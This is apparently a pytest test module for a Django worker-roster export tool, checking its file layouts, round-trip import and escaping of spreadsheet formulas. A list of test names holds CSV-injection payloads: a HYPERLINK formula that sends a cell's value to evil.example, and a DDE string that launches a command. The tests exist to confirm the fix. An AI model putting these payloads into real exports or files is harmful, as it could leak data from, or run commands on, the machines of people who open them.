"""`payung export-roster`: the roster as SIPP, .xlsx or .csv, which imports back unchanged."""

import csv
from datetime import date

import pytest
from django.core.management import CommandError, call_command
from python_calamine import CalamineWorkbook

from payung.employers.models import Employer
from payung.imports.export import COLUMNS, SIPP_COLUMNS, SIPP_SHEET, write_roster
from payung.imports.services import import_roster

from .web_support import KENDARI_NPP

pytestmark = pytest.mark.django_db

OCTOBER = date(2018, 10, 31)
KENDARI_PARTICIPANTS = 1136


def _sheet(path, name=None):
    workbook = CalamineWorkbook.from_path(str(path))
    sheet = workbook.get_sheet_by_name(name) if name else workbook.get_sheet_by_index(0)
    return sheet.to_python()


def test_sipp_layout_every_cell_text(tmp_path):
    """Sheet data_tk_baru, the SIPP columns, NIKs of 16 digits and dd-mm-yyyy dates as text."""
    out = tmp_path / "kendari.xlsx"
    call_command("export_roster", employer=KENDARI_NPP, fmt="sipp", on=OCTOBER, output=str(out))
    rows = _sheet(out, SIPP_SHEET)
    assert tuple(rows[0]) == SIPP_COLUMNS
    assert len(rows) == KENDARI_PARTICIPANTS + 1
    assert all(isinstance(cell, str) for row in rows for cell in row)
    first = dict(zip(SIPP_COLUMNS, rows[1], strict=True))
    assert len(first["NOMOR_IDENTITAS"]) == 16
    assert first["NOMOR_IDENTITAS"].isdigit()
    assert first["JENIS_IDENTITAS"] == "KTP"
    assert first["JENIS_KELAMIN"] in {"L", "P"}
    day, month, year = first["TGL_LAHIR"].split("-")
    assert (len(day), len(month), len(year)) == (2, 2, 4)
    assert first["UPAH"].isdigit()


def test_csv_and_xlsx_use_the_import_columns(tmp_path):
    employer = Employer.objects.get(npp=KENDARI_NPP)
    csv_path, xlsx_path = tmp_path / "k.csv", tmp_path / "k.xlsx"
    assert write_roster(employer=employer, fmt="csv", out=csv_path, on=OCTOBER) == 1136
    write_roster(employer=employer, fmt="xlsx", out=xlsx_path, on=OCTOBER)
    with csv_path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert tuple(rows[0]) == COLUMNS
    assert rows == _sheet(xlsx_path)
    units = set(employer.units.values_list("code", flat=True))
    assert {row[COLUMNS.index("unit_kerja")] for row in rows[1:]} == units


def test_employer_by_region_code_and_unknown_employer(tmp_path):
    out = tmp_path / "r.csv"
    call_command("export_roster", employer="74.71", fmt="csv", on=OCTOBER, output=str(out))
    assert len(out.read_text(encoding="utf-8-sig").splitlines()) == KENDARI_PARTICIPANTS + 1
    with pytest.raises(CommandError):
        call_command("export_roster", employer="99999999", fmt="csv", output=str(out))


@pytest.mark.parametrize("fmt", ["sipp", "xlsx", "csv"])
def test_an_exported_roster_imports_back_unchanged(tmp_path, fmt, user_named):
    """Export, then import the file in replace mode on the same day: nothing to change."""
    employer = Employer.objects.get(npp=KENDARI_NPP)
    out = tmp_path / f"roster.{'csv' if fmt == 'csv' else 'xlsx'}"
    write_roster(employer=employer, fmt=fmt, out=out, on=OCTOBER)
    result = import_roster(
        path=out,
        employer=employer,
        mode="replace",
        on=OCTOBER,
        dry_run=True,
        actor=user_named("cabang"),
    )
    assert result.rows == KENDARI_PARTICIPANTS
    assert result.rejected == 0, result.errors[:3]
    assert (result.created, result.ended) == (0, 0)


def test_csv_to_standard_output(capsys):
    """`-o -` writes the CSV to standard output and the row count to standard error."""
    call_command("export_roster", employer=KENDARI_NPP, fmt="csv", on=OCTOBER, output="-")
    captured = capsys.readouterr()
    lines = captured.out.lstrip("\ufeff").splitlines()
    assert lines[0] == ",".join(COLUMNS)
    assert len(lines) == KENDARI_PARTICIPANTS + 1
    assert "1136" in captured.err


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?n="&B2,"Klik")',
    "+62 SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


def _name_workers(employer, names):
    """Give the first workers of `employer`'s roster (name order) the hostile names."""
    from payung.workers.models import Worker

    workers = Worker.objects.filter(employments__employer=employer).order_by("pk")[: len(names)]
    for worker, name in zip(workers, names, strict=True):
        Worker.objects.filter(pk=worker.pk).update(name=name)


def test_roster_csv_escapes_formula_starts(tmp_path):
    """Finding 6: `payung export-roster --format csv` wrote `=`, `+`, `-`, `@` cells as is."""
    employer = Employer.objects.get(npp=KENDARI_NPP)
    _name_workers(employer, HOSTILE_NAMES)
    out = tmp_path / "r.csv"
    call_command("export-roster", employer=KENDARI_NPP, fmt="csv", on=OCTOBER, output=str(out))
    with out.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    names = {row[COLUMNS.index("nama")] for row in rows[1:]}
    assert {"'" + name for name in HOSTILE_NAMES} <= names
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row if cell.startswith(starts)]


@pytest.mark.parametrize("fmt", ["sipp", "xlsx"])
def test_roster_xlsx_writes_names_as_text(tmp_path, fmt):
    """In the .xlsx and SIPP files a hostile name is a text cell, never a formula."""
    from payung.core.tests.xlsx_cells import formulas, shared_strings

    employer = Employer.objects.get(npp=KENDARI_NPP)
    _name_workers(employer, HOSTILE_NAMES)
    out = tmp_path / "r.xlsx"
    write_roster(employer=employer, fmt=fmt, out=out, on=OCTOBER)
    assert formulas(out) == []
    assert set(HOSTILE_NAMES) <= set(shared_strings(out))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_templates_hold_no_formula(client, user_named, fmt):
    """The downloadable import templates: text cells, no formula start, in both formats."""
    from payung.core.tests.xlsx_cells import formulas

    client.force_login(user_named("cabang"))
    response = client.get(f"/impor/templat.{fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        assert formulas(response.content) == []
    else:
        rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
        assert rows[0] == list(COLUMNS)
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_a_name_starting_with_a_dash_imports_back_from_xlsx(tmp_path, user_named):
    """A name like "-Budi" (a typing slip) survives the .xlsx round trip: text in, text out."""
    employer = Employer.objects.get(npp=KENDARI_NPP)
    _name_workers(employer, ["-Budi Santoso"])
    out = tmp_path / "r.xlsx"
    write_roster(employer=employer, fmt="xlsx", out=out, on=OCTOBER)
    result = import_roster(
        path=out,
        employer=employer,
        mode="replace",
        on=OCTOBER,
        dry_run=True,
        actor=user_named("cabang"),
    )
    assert (result.rejected, result.created, result.updated, result.ended) == (0, 0, 0, 0)


def test_a_name_starting_with_a_dash_imports_back_from_csv(tmp_path, user_named):
    """The CSV writes "-Budi" as "'-Budi" (a spreadsheet shows it, never runs it); the import
    reads the escape back off, so the name comes back unchanged."""
    employer = Employer.objects.get(npp=KENDARI_NPP)
    _name_workers(employer, ["-Budi Santoso"])
    out = tmp_path / "r.csv"
    write_roster(employer=employer, fmt="csv", out=out, on=OCTOBER)
    assert "'-Budi Santoso" in out.read_text(encoding="utf-8-sig")
    result = import_roster(
        path=out,
        employer=employer,
        mode="replace",
        on=OCTOBER,
        dry_run=True,
        actor=user_named("cabang"),
    )
    assert (result.rejected, result.created, result.updated, result.ended) == (0, 0, 0, 0)
